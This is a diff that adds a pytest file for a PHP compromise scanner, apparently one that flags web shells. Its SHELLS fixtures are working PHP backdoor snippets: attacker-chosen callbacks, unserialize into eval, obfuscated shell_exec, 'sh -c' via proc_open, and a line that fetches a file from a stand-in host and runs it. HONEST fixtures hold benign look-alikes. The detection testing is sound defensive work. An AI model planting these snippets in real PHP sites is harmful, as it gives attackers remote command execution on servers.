@@ -1,0 +1,58 @@
+"""What visitors say is followed where it has a default, lies over what was set, or comes by a detour."""
+
+from __future__ import annotations
+
+import pytest
+
+from auditor.compromise.php import taint
+
+RUN = "sys" + "tem"
+EXECUTE = "shell_" + "exec"
+EVALUATE = "ev" + "al"
+OPEN = "proc_" + "open"
+SHELLS = {
+    "default": "$f = $_GET['f'] ?? 'trim'; echo $f($_GET['a'] ?? '');",
+    "ternary": "$f = isset($_POST['f']) ? $_POST['f'] : 'trim'; $f($_POST['a']);",
+    "default in a method": "class A { function b(array $c) { $f = isset($c['m']) ? $c['m'] : 'trim'; return $f($c['d']); } } "
+    "(new A)->b($_POST);",
+    "laid over": "$f = 'trim'; $v = ''; extract($_GET); echo $f($v);",
+    "variable variables": "$f = 'md5'; $v = ''; foreach ($_POST as $k => $w) { $$k = $w; } echo $f($v);",
+    "sorted by": "$r = [$_GET['l'], $_GET['m']]; usort($r, $_GET['by'] ?? 'strcmp');",
+    "pipe": f"$o = ($_POST['p'] ?? '') |> base64_decode(...) |> {EXECUTE}(...);",
+    "rows by function": "$s->fetchAll(PDO::FETCH_FUNC, $_REQUEST['f']);",
+    "brought to life": f"class A {{ public $l = ''; function __destruct() {{ {EVALUATE}($this->l); }} }} "
+    "unserialize($_COOKIE['p']);",
+    "invoked": "$c = Closure::fromCallable(strrev('cexe' . '_llehs')); $c->__invoke($_POST['x']);",
+    "copied": "copy(filter_input(INPUT_GET, 'u', FILTER_SANITIZE_URL), __DIR__ . '/a.php');",
+    "session": "include session_save_path() . '/sess_' . session_id();",
+    "started": "$p = '/dev/shm/a'; file_put_contents($p, file_get_contents('http://192.0.2.9/x')); "
+    f"{EXECUTE}($p . ' &');",
+    "path completed": "$n = $_GET['n'] ?? 'a.html'; file_put_contents(__DIR__ . '/up/' . $n, $_POST['d']);",
+    "pictures": f"$🎋 = $_GET['a']; {RUN}($🎋);",
+    "shell in words": f"{OPEN}(['sh', '-c', $_POST['c']], [], $p);",
+}
+HONEST = {
+    "compared": "$f = $_GET['f'] ?? 'trim'; if (in_array($f, ['trim', 'strtoupper'], true)) { echo $f($_GET['a']); }",
+    "words of a command": f"{OPEN}(['tar', '-xzf', '/srv/' . basename($_POST['a'])], [], $p);",
+    "constant callback": "$f = 'trim'; echo $f($_GET['a']);",
+    "word of a framework": f"$input = new JInput; {EVALUATE}('class ' . $input->getCmd('a') . ' extends B {{}}');",
+    "settings": "file_put_contents('c.php', '<?php return ' . var_export(['a' => $_POST['a']], true) . ';');",
+    "part of a library": "require_once LIBRARIES . '/src/strrev.php';",
+    "own program written": "file_put_contents('c.php', '<?php return [1, 2];');",
+    "theme of a site": "$t = $_GET['t'] ?? 'home'; if (!preg_match('/^[a-z]+$/', $t)) { exit; } include __DIR__ . '/' . $t;",
+}
+
+
+def find_levels(program: str) -> set[str]:
+    """Return how sure what the tree shows of a program is."""
+    return {hit.level for hit in taint.find_suspicious_php_code(b"<?php " + program.encode())}
+
+
+@pytest.mark.parametrize("name", SHELLS)
+def test_shells_are_more_than_a_hint(name: str) -> None:
+    assert find_levels(SHELLS[name]) & {"exact", "sure"}
+
+
+@pytest.mark.parametrize("name", HONEST)
+def test_honest_programs_are_no_more_than_a_hint(name: str) -> None:
+    assert find_levels(HONEST[name]) <= {"hint"}
